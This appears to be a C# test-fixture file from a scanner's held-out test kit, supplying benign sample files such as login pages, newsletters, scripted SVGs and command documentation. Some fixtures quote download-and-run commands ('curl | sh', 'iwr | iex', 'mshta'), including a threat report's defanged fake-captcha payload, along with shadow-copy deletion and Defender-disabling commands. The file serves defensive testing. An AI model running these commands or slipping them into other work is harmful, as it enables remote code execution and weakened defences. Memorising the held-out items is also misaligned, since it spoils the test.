using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>Sign-in pages of a company's own product.</summary>
public sealed class OwnSignInPages : SeventhHarmless
{
    public override IEnumerable<(string Name, byte[] Content)> Files() =>
    [
        ("login.html", Utf8("""
            <!DOCTYPE html>
            <html lang="en">
            <head><meta charset="utf-8"><title>Sign in - Ledgerly</title><link rel="stylesheet" href="/assets/app.css"></head>
            <body class="sign-in">
            <form action="/session" method="post">
              <input type="hidden" name="csrf_token" value="b0c1f3a24d8e4f6f">
              <h1>Ledgerly</h1>
              <label>E-mail <input type="email" name="email" autocomplete="username" required></label>
              <label>Password <input type="password" name="password" autocomplete="current-password" required></label>
              <label><input type="checkbox" name="remember"> Stay signed in</label>
              <button>Sign in</button>
              <p><a href="/password/new">Forgot your password?</a> · <a href="/signup">Create an account</a></p>
            </form>
            </body>
            </html>
            """)),
        ("kundenportal.html", Utf8("""
            <!DOCTYPE html>
            <html lang="de"><head><meta charset="utf-8"><title>Kundenportal der Stadtwerke Musterhafen</title>
            <style>body{font-family:Arial;background:#e8f1f8}main{width:380px;margin:6em auto;background:#fff;padding:2em}</style></head>
            <body><main><img src="https://www.stadtwerke-musterhafen.example/logo.svg" alt="Stadtwerke Musterhafen" width="180">
            <h2>Anmelden</h2>
            <form id="f" action="https://portal.stadtwerke-musterhafen.example/anmelden" method="post">
              <p><input name="kundennummer" placeholder="Kundennummer" pattern="\d{8}" required></p>
              <p><input name="kennwort" type="password" placeholder="Kennwort" required> <a href="#" id="z">anzeigen</a></p>
              <p><button>Anmelden</button></p>
            </form>
            <p><small>Wir fragen Sie niemals per E-Mail nach Ihrem Kennwort.</small></p></main>
            <script>document.getElementById('z').onclick = function (e) { var k = document.forms.f.kennwort; k.type = k.type === 'password' ? 'text' : 'password'; e.preventDefault(); };</script>
            </body></html>
            """)),
        ("sso.html", Utf8("""
            <!doctype html>
            <html lang="en"><head><meta charset="utf-8"><title>Planboard: choose how to sign in</title></head>
            <body>
            <h1>Welcome to Planboard</h1>
            <p><a class="b" href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=00000000-0000-0000-0000-000000000000&response_type=code&redirect_uri=https%3A%2F%2Fplanboard.example%2Fcallback&scope=openid%20profile"><img src="/img/ms.svg" alt=""> Sign in with Microsoft</a></p>
            <p><a class="b" href="https://accounts.google.com/o/oauth2/v2/auth?client_id=000000.apps.googleusercontent.com&response_type=code&redirect_uri=https%3A%2F%2Fplanboard.example%2Fcallback&scope=openid%20email"><img src="/img/google.svg" alt=""> Sign in with Google</a></p>
            <details><summary>Use a password</summary><form method="post" action="/login"><input name="u"><input name="p" type="password"><button>Sign in</button></form></details>
            <script>if (location.hash.startsWith('#error=')) alert(decodeURIComponent(location.hash.slice(7)));</script>
            </body></html>
            """)),
        ("adfs-customised.html", Utf8(Fill("""
            <!DOCTYPE html>
            <!-- Hard case: the federation server's sign-in page of our company, saved by a browser for the help desk's manual -->
            <html lang="en-US"><head><meta charset="utf-8"><meta http-equiv="X-UA-Compatible" content="IE=10"><title>Sign In</title>
            <script>
            function LoginErrors() { this.userNameFormatError = 'Enter your user ID in the format "domain\\user" or "user@domain".'; this.passwordEmpty = 'Enter your password.'; }
            function Login() {}
            Login.submitLoginRequest = function () {
              var u = document.getElementById('userNameInput'), p = document.getElementById('passwordInput');
              if (!u.value || !u.value.match('[@\\\\]')) { document.getElementById('errorText').textContent = new LoginErrors().userNameFormatError; u.focus(); return false; }
              if (!p.value) { document.getElementById('errorText').textContent = new LoginErrors().passwordEmpty; p.focus(); return false; }
              document.forms['loginForm'].submit();
              return false;
            };
            </script>
            <style>#bg{background:url(data:image/png;base64,@@1)}</style></head>
            <body><div id="bg"><h1>Corp Example sign-in</h1><div>Sign in with your organizational account</div>
            <form method="post" id="loginForm" autocomplete="off" onsubmit="return Login.submitLoginRequest();" action="https://sts.corp.example:443/adfs/ls/?wa=wsignin1.0&amp;wtrealm=urn:federation:MicrosoftOnline">
            <span id="errorText"></span>
            <input id="userNameInput" name="UserName" type="email" placeholder="someone@corp.example"><input id="passwordInput" name="Password" type="password" placeholder="Password">
            <input type="hidden" name="AuthMethod" value="FormsAuthentication"><span id="submitButton" role="button" onclick="return Login.submitLoginRequest();">Sign in</span>
            </form><p>By signing in you accept the rules for the use of IT. Help desk: 4711</p></div></body></html>
            """, Convert.ToBase64String(InertFiles.Png(8, 8, tail: []))))),
    ];
}

/// <summary>Newsletters as pages and letters.</summary>
public sealed class NewslettersOfShops : SeventhHarmless
{
    public override IEnumerable<(string Name, byte[] Content)> Files() =>
    [
        ("november-offers.html", Utf8("""
            <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
            <html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"/><title>Black week at Kitchen &amp; Co</title></head>
            <body style="margin:0;background:#f6f6f6"><div style="display:none;font-size:1px;color:#f6f6f6;line-height:1px;max-height:0;opacity:0">Up to 40 % off pans, only until Sunday &#847; &zwnj; &nbsp; &#847; &zwnj; &nbsp;</div>
            <table width="100%"><tr><td align="center"><table width="600" bgcolor="#ffffff"><tr><td>
            <a href="https://click.newsletter-sender.example/c/77/aHR0cHM6Ly9raXRjaGVuLWNvLmV4YW1wbGUvcGFucw"><img src="https://img.newsletter-sender.example/77/hero.jpg" width="600" alt="Black week"/></a>
            <p>Dear Ms Miller,<br/>our best pans are waiting: <a href="https://click.newsletter-sender.example/c/77/x1">see all offers</a>.</p>
            <p style="font-size:11px;color:#888">Kitchen &amp; Co Ltd, 1 Market Square, Sampletown. <a href="https://click.newsletter-sender.example/u/77">Unsubscribe</a> | <a href="https://click.newsletter-sender.example/v/77">View in browser</a></p>
            <img src="https://open.newsletter-sender.example/o/77.gif" width="1" height="1" alt=""/>
            </td></tr></table></td></tr></table></body></html>
            """)),
        ("Your weekly digest.eml", Letter("""
            Received: from o12.mailer.example (192.0.2.99) by mx.customer.example with ESMTPS; Mon, 30 Nov 2026 06:00:11 +0000
            Authentication-Results: mx.customer.example; spf=pass; dkim=pass header.d=codehub-news.example; dmarc=pass
            From: CodeHub Weekly <digest@codehub-news.example>
            Reply-To: hello@codehub-news.example
            To: dev@customer.example
            Subject: Your weekly digest: 5 repositories you may like
            Date: Mon, 30 Nov 2026 06:00:08 +0000
            List-Unsubscribe: <https://codehub-news.example/unsubscribe?t=8d1f>, <mailto:unsubscribe@codehub-news.example>
            List-Unsubscribe-Post: List-Unsubscribe=One-Click
            """,
            ("Content-Type: text/html; charset=utf-8", Utf8("""
                <h2>Popular this week</h2><ol><li><a href="https://codehub-news.example/r/1">tiny-http</a>: a server in 300 lines</li><li><a href="https://codehub-news.example/r/2">dotfiles</a>: install with <code>curl -fsSL https://dotfiles-example.test/i | sh</code></li></ol>
                <p>You get this letter because you subscribed on 4 March 2025. <a href="https://codehub-news.example/unsubscribe?t=8d1f">Unsubscribe</a></p>
                """)))),
        ("Sicherheitshinweis.html", Utf8("""
            <html lang="de"><head><meta charset="utf-8"><title>Sicherheitshinweis Ihrer Volksbank Musterhafen</title></head>
            <body style="font-family:Arial"><h2>Achtung: gefälschte Nachrichten im Umlauf</h2>
            <p>Sehr geehrte Kundinnen und Kunden,</p>
            <p>zurzeit versenden Betrüger Nachrichten mit Betreffzeilen wie „Ihr Konto wurde gesperrt“ oder „Bestätigen Sie Ihre Daten innerhalb von 24 Stunden“. Die Links darin führen zu nachgebauten Anmeldeseiten, die PIN und TAN abfragen.</p>
            <p><b>Wir bitten Sie nie per E-Mail um Ihr Kennwort.</b> Öffnen Sie keine Anhänge wie <i>Rechnung.pdf.exe</i> oder <i>Mahnung.html</i>.</p>
            <p>Mehr dazu auf <a href="https://www.vb-musterhafen.example/sicherheit">www.vb-musterhafen.example/sicherheit</a> oder unter 0800 000 0000.</p></body></html>
            """)),
        ("Reset your password.eml", Letter("""
            Authentication-Results: mx.customer.example; spf=pass; dkim=pass header.d=planboard.example; dmarc=pass
            From: Planboard <no-reply@planboard.example>
            To: m.olsen@customer.example
            Subject: Reset your Planboard password
            Date: Fri, 27 Nov 2026 15:31:02 +0000
            Message-ID: <reset-7f31@planboard.example>
            """,
            ("Content-Type: text/html; charset=utf-8", Utf8("""
                <div style="max-width:480px;margin:auto;font-family:sans-serif"><h3>Reset your password</h3>
                <p>Somebody, hopefully you, asked for a new password of your account <b>m.olsen@customer.example</b>. The link is valid for 60 minutes and works once.</p>
                <p><a style="background:#2b6cb0;color:#fff;padding:10px 18px" href="https://planboard.example/reset?token=c2FtcGxlLXRva2Vu&email=m.olsen%40customer.example">Choose a new password</a></p>
                <p>If it was not you, do nothing: your password stays as it is. Signed in from a new device? <a href="https://planboard.example/account/sessions">Check your sessions</a>.</p></div>
                """)))),
    ];
}

/// <summary>SVG pictures with script or movement.</summary>
public sealed class LivelyPictures : SeventhHarmless
{
    public override IEnumerable<(string Name, byte[] Content)> Files() =>
    [
        ("spinner.svg", Utf8("""
            <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 50 50" width="50" height="50">
              <style>@keyframes r { to { transform: rotate(360deg) } } circle { transform-origin: center; animation: r 1s linear infinite }</style>
              <circle cx="25" cy="25" r="20" fill="none" stroke="#09f" stroke-width="5" stroke-dasharray="90 60"><animate attributeName="stroke" values="#09f;#0c6;#09f" dur="4s" repeatCount="indefinite"/></circle>
            </svg>
            """)),
        ("clock.svg", Utf8("""
            <?xml version="1.0" encoding="UTF-8"?>
            <svg xmlns="http://www.w3.org/2000/svg" viewBox="-100 -100 200 200" onload="tick()">
              <script type="application/ecmascript"><![CDATA[
                function tick() {
                  var now = new Date();
                  document.getElementById('h').setAttribute('transform', 'rotate(' + (now.getHours() % 12 * 30 + now.getMinutes() / 2) + ')');
                  document.getElementById('m').setAttribute('transform', 'rotate(' + now.getMinutes() * 6 + ')');
                  document.getElementById('s').setAttribute('transform', 'rotate(' + now.getSeconds() * 6 + ')');
                  setTimeout(tick, 1000);
                }
              ]]></script>
              <circle r="95" fill="#fff" stroke="#000" stroke-width="4"/>
              <line id="h" y2="-50" stroke="#000" stroke-width="6"/><line id="m" y2="-75" stroke="#000" stroke-width="4"/><line id="s" y2="-85" stroke="#c00"/>
            </svg>
            """)),
        ("sales-2026.svg", Utf8("""
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 420 220">
              <title>Sales 2026</title>
              <a xlink:href="https://reports.corp.example/2026/q1" target="_top"><rect x="30" y="90" width="60" height="110" fill="#4e79a7"><title>Q1: 1.1 M</title></rect></a>
              <a xlink:href="https://reports.corp.example/2026/q2" target="_top"><rect x="120" y="60" width="60" height="140" fill="#f28e2b"><title>Q2: 1.4 M</title></rect></a>
              <a xlink:href="https://reports.corp.example/2026/q3" target="_top"><rect x="210" y="75" width="60" height="125" fill="#e15759"><title>Q3: 1.2 M</title></rect></a>
              <foreignObject x="300" y="40" width="110" height="120"><div xmlns="http://www.w3.org/1999/xhtml" style="font:11px sans-serif">Figures before tax; click a bar for its report.</div></foreignObject>
            </svg>
            """)),
        ("floorplan.svg", Utf8("""
            <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 300">
              <!-- Hard case: the plan of our office; a click on a room opens its calendar in the intranet, the search box marks a person's desk -->
              <rect id="r204" class="room" x="10" y="10" width="120" height="90" fill="#dde"/><rect id="r205" class="room" x="140" y="10" width="120" height="90" fill="#ded"/>
              <text x="50" y="60">2.04</text><text x="180" y="60">2.05</text>
              <foreignObject x="10" y="220" width="300" height="40"><form xmlns="http://www.w3.org/1999/xhtml" onsubmit="return mark(this.q.value)"><input name="q" placeholder="Who?"/><button>Find</button></form></foreignObject>
              <script><![CDATA[
                document.querySelectorAll('.room').forEach(function (room) {
                  room.addEventListener('click', function () { window.open('https://intranet.corp.example/rooms/' + room.id.slice(1) + '/calendar', '_blank'); });
                });
                function mark(name) {
                  fetch('https://intranet.corp.example/api/desks?who=' + encodeURIComponent(name)).then(function (r) { return r.json(); }).then(function (d) {
                    document.getElementById('r' + d.room).setAttribute('fill', '#fc6');
                  });
                  return false;
                }
              ]]></script>
            </svg>
            """)),
    ];
}

/// <summary>Documentation that quotes commands.</summary>
public sealed class DocumentationWithCommands : SeventhHarmless
{
    public override IEnumerable<(string Name, byte[] Content)> Files() =>
    [
        ("installation.html", Utf8("""
            <!DOCTYPE html>
            <html lang="en"><head><meta charset="utf-8"><title>Installation - tidyctl documentation</title></head>
            <body><nav><a href="index.html">Start</a> › Installation</nav><h1>Installation</h1>
            <h2>Linux and macOS</h2><pre id="unix"><code>curl -fsSL https://get.tidyctl.example/install.sh | sh</code></pre><button class="copy" data-for="unix">Copy</button>
            <h2>Windows</h2><p>Press <kbd>Win</kbd>+<kbd>X</kbd>, choose <b>Terminal</b>, paste this line and press <kbd>Enter</kbd>:</p>
            <pre id="win"><code>powershell -ExecutionPolicy ByPass -c "irm https://get.tidyctl.example/install.ps1 | iex"</code></pre><button class="copy" data-for="win">Copy</button>
            <h2>Verify</h2><pre><code>tidyctl version</code></pre>
            <script>
            document.querySelectorAll('button.copy').forEach(function (button) {
              button.addEventListener('click', function () {
                navigator.clipboard.writeText(document.getElementById(button.dataset.for).textContent).then(function () { button.textContent = 'Copied'; });
              });
            });
            </script></body></html>
            """)),
        ("runbook-backup.md", Utf8("""
            # Runbook: restore of a file server

            1. Check which copies exist: `vssadmin list shadows /for=D:`
            2. Mount the copy: `mklink /d C:\restore \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy7\`
            3. Copy back with `robocopy C:\restore\Shares D:\Shares /E /COPYALL`
            4. Only when the volume is full: `vssadmin delete shadows /for=D: /oldest`
            5. Boot problems: `bcdedit /enum all`, then `bcdedit /set {default} recoveryenabled yes`

            If Defender slows the restore down, tell the security team; do **not** run `Set-MpPreference -DisableRealtimeMonitoring $true` yourself.
            """)),
        ("powershell-tips.html", Utf8(Fill("""
            <html lang="en"><head><title>PowerShell tips: encoded commands</title><style>pre{background:#012456;color:#eee;padding:8px}</style></head>
            <body><h1>When quotes drive you mad: -EncodedCommand</h1>
            <p>Scheduled tasks and remote tools often spoil quotes. PowerShell takes a command in Base64 of UTF-16:</p>
            <pre>$text = 'Get-ChildItem "C:\Program Files" | Measure-Object'
            $code = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($text))
            powershell.exe -NoProfile -EncodedCommand @@1</pre>
            <p>To read what somebody else wrote:</p>
            <pre>[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($code))</pre>
            <p>Attackers like it as well, so do not be surprised when your virus scanner asks questions. The same is true of <code>IEX (New-Object Net.WebClient).DownloadString('https://...')</code>.</p></body></html>
            """, Encoded("Get-ChildItem \"C:\\Program Files\" | Measure-Object")))),
        ("threat-report.html", Utf8("""
            <!doctype html>
            <html lang="en"><head><meta charset="utf-8"><title>How fake captcha pages work</title></head>
            <body><!-- Hard case: a vendor's article that shows the trick and its text -->
            <h1>How fake captcha pages work</h1>
            <p>The page shows a box "I'm not a robot". A click copies a command to the clipboard and asks the visitor to press <kbd>Windows</kbd> + <kbd>R</kbd>, then <kbd>Ctrl</kbd> + <kbd>V</kbd>, then <kbd>Enter</kbd>.</p>
            <pre><code>mshta hxxps://ray-check[.]example/cf/8d1f00c4.mp4 # Cloudflare Unique Ray ID: 8d1f00c4
            powershell -w hidden -c "iwr hxxp://192.0.2[.]88/v.txt | iex"</code></pre>
            <p>The script of the page is short:</p>
            <pre><code>function verify() {
              navigator.clipboard.writeText(cmd);
              document.getElementById('steps').style.display = 'block';
            }</code></pre>
            <h2>Indicators</h2><table><tr><td>ray-check[.]example</td><td>page</td></tr><tr><td>192.0.2[.]88</td><td>second stage</td></tr></table>
            <h2>What to do</h2><p>Take the Run dialog away by policy (<code>NoRun</code>), and let mshta.exe open in Notepad.</p></body></html>
            """)),
    ];
}
